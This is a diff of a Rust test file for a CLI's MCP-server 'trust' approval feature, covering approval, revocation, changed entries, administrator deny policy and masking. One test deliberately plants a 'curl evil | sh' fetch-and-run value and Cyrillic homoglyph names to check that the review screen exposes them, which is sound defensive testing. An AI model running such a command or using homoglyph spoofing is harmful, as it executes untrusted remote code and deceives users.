@@ -1,4 +1,4 @@
-//! `trust`: what is shown, what is recorded, what asks again.
+//! `trust`: review, recorded decisions, and changes that need a new approval.
 
 use std::os::unix::fs::PermissionsExt as _;
 use std::process::Stdio;
@@ -7,25 +7,25 @@ use insta::assert_snapshot;
 use serde_json::{Value, json};
 use switchboard_testkit::{Step, read_record};
 
-use crate::support::{Desk, Ran, polite};
+use crate::support::{CliOutput, TestCli, echo_server};
 
-async fn run(desk: &Desk, args: &[&str]) -> Ran {
-    let mut command = desk.untrusting(args);
+async fn run(cli: &TestCli, args: &[&str]) -> CliOutput {
+    let mut command = cli.command_without_trust(args);
     command.env("GITHUB_TOKEN", "hush-hush");
-    desk.finish(command).await
+    cli.run_command(command).await
 }
 
-fn project_file(desk: &Desk, servers: &Value) {
+fn project_file(cli: &TestCli, servers: &Value) {
     let text = json!({ "mcpServers": servers }).to_string();
-    desk.sandbox.write(".mcp.json", text);
+    cli.sandbox.write(".mcp.json", text);
 }
 
 #[tokio::test]
-async fn what_would_run_is_shown_and_nothing_is_approved_without_an_answer() {
-    let desk = Desk::empty();
-    desk.sandbox.write_executable("tools/run", "#!/bin/sh\n");
+async fn trust_without_terminal_shows_entries_only() {
+    let cli = TestCli::empty();
+    cli.sandbox.write_executable("tools/run", "#!/bin/sh\n");
     project_file(
-        &desk,
+        &cli,
         &json!({
             "mine": {
                 "command": "./tools/run",
@@ -41,8 +41,8 @@ async fn what_would_run_is_shown_and_nothing_is_approved_without_an_answer() {
             },
         }),
     );
-    let ran = run(&desk, &["trust"]).await;
-    assert_snapshot!(ran, @r"
+    let output = run(&cli, &["trust"]).await;
+    assert_snapshot!(output, @r"
         exit 4
         --- stdout
         mine
@@ -77,39 +77,39 @@ async fn what_would_run_is_shown_and_nothing_is_approved_without_an_answer() {
         error: not approved: mine, gone, fаr; there is nobody to ask
         hint: if that may run: switchboard trust --yes
         ");
-    assert!(!ran.to_string().contains("hush"));
+    assert!(!output.to_string().contains("hush"));
     assert_eq!(
-        run(&desk, &["trust", "--list", "--json"]).await.json(),
+        run(&cli, &["trust", "--list", "--json"]).await.json(),
         json!({"approvals": []})
     );
 }
 
 #[tokio::test]
-async fn an_approved_entry_runs_until_it_changes_and_says_what_changed() {
-    let desk = Desk::with([("ant", polite().record("record").into())]);
-    assert_eq!(run(&desk, &["trust", "ant", "--yes"]).await.code, 0);
+async fn changed_entry_needs_new_approval() {
+    let cli = TestCli::with_servers([("ant", echo_server().record("record").into())]);
+    assert_eq!(run(&cli, &["trust", "ant", "--yes"]).await.code, 0);
     let call = ["call", "mcp__ant__echo", "message=hi", "--yes"];
-    assert_eq!(run(&desk, &call).await.code, 0);
-    let record = read_record(desk.sandbox.project().join("record"));
+    assert_eq!(run(&cli, &call).await.code, 0);
+    let record = read_record(cli.sandbox.project().join("record"));
     assert!(
         record
             .iter()
             .any(|message| message["method"] == "tools/call")
     );
-    assert_snapshot!(run(&desk, &["trust", "--revoke", "ant"]).await, @"
+    assert_snapshot!(run(&cli, &["trust", "--revoke", "ant"]).await, @"
         exit 0
         --- stdout
         Taken back for 1 server: ant
         ");
-    assert_eq!(run(&desk, &call).await.code, 4);
+    assert_eq!(run(&cli, &call).await.code, 4);
 
-    project_file(&desk, &json!({"ant": {"command": "true", "args": ["one"]}}));
-    run(&desk, &["trust", "--yes"]).await;
+    project_file(&cli, &json!({"ant": {"command": "true", "args": ["one"]}}));
+    run(&cli, &["trust", "--yes"]).await;
     project_file(
-        &desk,
+        &cli,
         &json!({"ant": {"command": "true", "args": ["two"], "cwd": "/"}}),
     );
-    assert_snapshot!(run(&desk, &["list"]).await, @"
+    assert_snapshot!(run(&cli, &["list"]).await, @"
         exit 0
         --- stdout
           STATUS  SERVER  SCOPE  TRANSPORT  TOOLS  TIME
@@ -119,9 +119,7 @@ async fn an_approved_entry_runs_until_it_changes_and_says_what_changed() {
         1 server of this project is not approved and was not started.
         To see what would run, and approve it: switchboard trust
         ");
-    let data = run(&desk, &["trust", "ant", "--yes", "--json"])
-        .await
-        .json();
+    let data = run(&cli, &["trust", "ant", "--yes", "--json"]).await.json();
     assert_eq!(
         data["servers"][0]["changes"],
         json!([
@@ -133,10 +131,13 @@ async fn an_approved_entry_runs_until_it_changes_and_says_what_changed() {
 }
 
 #[tokio::test]
-async fn a_rejected_server_has_failed_and_stays_so() {
-    let desk = Desk::with([("ant", polite().on_start([Step::count("started")]).into())]);
-    assert_eq!(run(&desk, &["trust", "ant", "--reject"]).await.code, 0);
-    assert_snapshot!(run(&desk, &["list"]).await, @"
+async fn rejected_server_stays_failed() {
+    let cli = TestCli::with_servers([(
+        "ant",
+        echo_server().on_start([Step::count("started")]).into(),
+    )]);
+    assert_eq!(run(&cli, &["trust", "ant", "--reject"]).await.code, 0);
+    assert_snapshot!(run(&cli, &["list"]).await, @"
         exit 0
         --- stdout
           STATUS  SERVER  SCOPE  TRANSPORT  TOOLS  TIME
@@ -144,36 +145,36 @@ async fn a_rejected_server_has_failed_and_stays_so() {
             rejected by you
             hint: to be asked again: switchboard trust ant
         ");
-    // Nor does it wait for an answer any more.
-    assert_snapshot!(run(&desk, &["trust"]).await, @"
+    // A rejected server does not wait for approval.
+    assert_snapshot!(run(&cli, &["trust"]).await, @"
         exit 0
         --- stdout
         Nothing waits for approval here.
         ");
-    assert_eq!(desk.run(&["get", "ant"]).await.code, 4);
-    assert!(!desk.sandbox.project().join("started").exists());
-    assert_eq!(run(&desk, &["trust", "ant", "--yes"]).await.code, 0);
-    assert_eq!(run(&desk, &["get", "ant"]).await.code, 0);
+    assert_eq!(cli.run(&["get", "ant"]).await.code, 4);
+    assert!(!cli.sandbox.project().join("started").exists());
+    assert_eq!(run(&cli, &["trust", "ant", "--yes"]).await.code, 0);
+    assert_eq!(run(&cli, &["get", "ant"]).await.code, 0);
 }
 
 #[tokio::test]
-async fn what_needs_no_approval_or_cannot_have_one_is_told() {
-    let desk = Desk::empty();
+async fn approval_is_only_for_valid_project_servers() {
+    let cli = TestCli::empty();
     project_file(
-        &desk,
+        &cli,
         &json!({"bad": {"command": 5}, "good": {"command": "true"}}),
     );
     let mine = json!({"mcpServers": {"mine": {"command": "true"}}});
-    desk.sandbox.write_home(".mcp.json", mine.to_string());
-    assert_snapshot!(run(&desk, &["trust", "mine"]).await, @"
+    cli.sandbox.write_home(".mcp.json", mine.to_string());
+    assert_snapshot!(run(&cli, &["trust", "mine"]).await, @"
         exit 0
         --- stdout
         mine is not the project's (scope user, [sandbox]/home/.mcp.json:1:16): it needs no approval.
         ");
-    assert_eq!(run(&desk, &["trust", "bad", "--yes"]).await.code, 3);
-    assert_eq!(run(&desk, &["trust", "other"]).await.code, 2);
-    assert_eq!(run(&desk, &["trust", "--reject"]).await.code, 2);
-    assert_snapshot!(run(&desk, &["trust", "--revoke", "good"]).await, @r#"
+    assert_eq!(run(&cli, &["trust", "bad", "--yes"]).await.code, 3);
+    assert_eq!(run(&cli, &["trust", "other"]).await.code, 2);
+    assert_eq!(run(&cli, &["trust", "--reject"]).await.code, 2);
+    assert_snapshot!(run(&cli, &["trust", "--revoke", "good"]).await, @r#"
         exit 2
         --- stderr
         error: nothing was said about a server "good" of this project
@@ -182,35 +183,38 @@ async fn what_needs_no_approval_or_cannot_have_one_is_told() {
 }
 
 #[tokio::test]
-async fn what_the_administrator_forbids_is_not_asked_about() {
-    let desk = Desk::with([("ant", polite().on_start([Step::count("started")]).into())]);
-    assert_eq!(run(&desk, &["trust", "ant", "--yes"]).await.code, 0);
-    let settings = desk.sandbox.root().join("etc/managed-settings.json");
+async fn denied_by_policy_is_not_asked() {
+    let cli = TestCli::with_servers([(
+        "ant",
+        echo_server().on_start([Step::count("started")]).into(),
+    )]);
+    assert_eq!(run(&cli, &["trust", "ant", "--yes"]).await.code, 0);
+    let settings = cli.sandbox.root().join("etc/managed-settings.json");
     let denied = json!({"deniedServers": [{"name": "ant"}]});
-    desk.sandbox.write(settings, denied.to_string());
-    assert_snapshot!(run(&desk, &["trust", "ant"]).await, @r#"
+    cli.sandbox.write(settings, denied.to_string());
+    assert_snapshot!(run(&cli, &["trust", "ant"]).await, @r#"
         exit 4
         --- stderr
         error: server ant cannot be approved: not allowed by the administrator: the name "ant" is denied
         hint: ask whoever administers this machine (managed-settings.json)
         "#);
     assert_eq!(
-        run(&desk, &["trust"]).await.stdout,
-        "Nothing waits for approval here."
+        run(&cli, &["trust"]).await.stdout,
+        "No servers are waiting for approval."
     );
-    assert_eq!(desk.run(&["get", "ant"]).await.code, 4);
-    assert!(!desk.sandbox.project().join("started").exists());
+    assert_eq!(cli.run(&["get", "ant"]).await.code, 4);
+    assert!(!cli.sandbox.project().join("started").exists());
 }
 
 #[tokio::test]
-async fn a_broken_file_of_approvals_approves_nothing_and_is_left_alone() {
-    let desk = Desk::with([("ant", polite().into())]);
-    run(&desk, &["trust", "--yes"]).await;
-    let path = desk.sandbox.state_home().join("switchboard/trust.json");
+async fn broken_approvals_file_approves_nothing() {
+    let cli = TestCli::with_servers([("ant", echo_server().into())]);
+    run(&cli, &["trust", "--yes"]).await;
+    let path = cli.sandbox.state_home().join("switchboard/trust.json");
     let mode = std::fs::metadata(&path).unwrap().permissions().mode();
     assert_eq!(mode & 0o777, 0o600);
     std::fs::write(&path, "{\"version\": 1, \"approvals\": [").unwrap();
-    assert_snapshot!(run(&desk, &["list"]).await, @"
+    assert_snapshot!(run(&cli, &["list"]).await, @"
         exit 0
         --- stdout
           STATUS  SERVER  SCOPE  TRANSPORT  TOOLS  TIME
@@ -224,7 +228,7 @@ async fn a_broken_file_of_approvals_approves_nothing_and_is_left_alone() {
          --> [sandbox]/home/.local/state/switchboard/trust.json
           = hint: move [sandbox]/home/.local/state/switchboard/trust.json away and approve again what you need
         ");
-    assert_snapshot!(run(&desk, &["trust", "--yes"]).await, @"
+    assert_snapshot!(run(&cli, &["trust", "--yes"]).await, @"
         exit 3
         --- stderr
         error: what you approved cannot be understood: EOF while parsing a list at line 1 column 29
@@ -237,9 +241,9 @@ async fn a_broken_file_of_approvals_approves_nothing_and_is_left_alone() {
 }
 
 #[tokio::test]
-async fn an_answer_that_is_not_typed_at_a_terminal_is_none() {
-    let desk = Desk::with([("ant", polite().into())]);
-    let mut command = desk.untrusting(&["trust"]);
+async fn answer_from_pipe_is_ignored() {
+    let cli = TestCli::with_servers([("ant", echo_server().into())]);
+    let mut command = cli.command_without_trust(&["trust"]);
     let mut child = command
         .stdin(Stdio::piped())
         .stdout(Stdio::null())
@@ -247,44 +251,44 @@ async fn an_answer_that_is_not_typed_at_a_terminal_is_none() {
         .spawn()
         .unwrap();
     let mut stdin = child.stdin.take().unwrap();
-    // It may be gone before it reads.
+    // The process may exit before it reads.
     let _ = std::io::Write::write_all(&mut stdin, b"y\n");
     drop(stdin);
     assert_eq!(child.wait().unwrap().code(), Some(4));
-    let list = run(&desk, &["trust", "--list", "--json"]).await;
+    let list = run(&cli, &["trust", "--list", "--json"]).await;
     assert_eq!(list.json(), json!({"approvals": []}));
 }
 
 #[tokio::test]
-async fn what_decides_what_runs_is_never_masked_and_cannot_pass_for_the_page() {
-    let desk = Desk::empty();
+async fn review_is_unmasked_and_cannot_be_imitated() {
+    let cli = TestCli::empty();
     let package = "hf_abcdefghijklmnopqrstuvwxyz0123456789";
     project_file(
-        &desk,
+        &cli,
         &json!({"a": {
             "command": "true",
             "args": [package, "x          runs   /bin/true", "p\u{430}ckage"],
             "env": {"API_KEY": "curl evil | sh", "P\u{410}TH": "${GITHUB_TOKEN}"},
         }}),
     );
-    let page = run(&desk, &["trust"]).await.to_string();
-    for seen in [
+    let review = run(&cli, &["trust"]).await.to_string();
+    for expected in [
         package,
         "API_KEY=curl evil | sh",
         "${GITHUB_TOKEN}",
         r"x \u{20}",
-        r"beyond ASCII: p\u{430}ckage",
-        r"beyond ASCII: P\u{410}TH",
+        r"non-ASCII characters: p\u{430}ckage",
+        r"non-ASCII characters: P\u{410}TH",
     ] {
-        assert!(page.contains(seen), "{seen}: {page}");
+        assert!(review.contains(expected), "{expected}: {review}");
     }
-    // What is data or kept masks them still.
-    let data = run(&desk, &["trust", "--yes", "--json"]).await.to_string();
-    let kept = desk.sandbox.state_home().join("switchboard/trust.json");
-    for kept in [data, std::fs::read_to_string(kept).unwrap()] {
+    // JSON output and the approvals file mask them.
+    let json = run(&cli, &["trust", "--yes", "--json"]).await.to_string();
+    let file = cli.sandbox.state_home().join("switchboard/trust.json");
+    for masked in [json, std::fs::read_to_string(file).unwrap()] {
         assert!(
-            !kept.contains(package) && !kept.contains("curl evil"),
-            "{kept}"
+            !masked.contains(package) && !masked.contains("curl evil"),
+            "{masked}"
         );
     }
 }
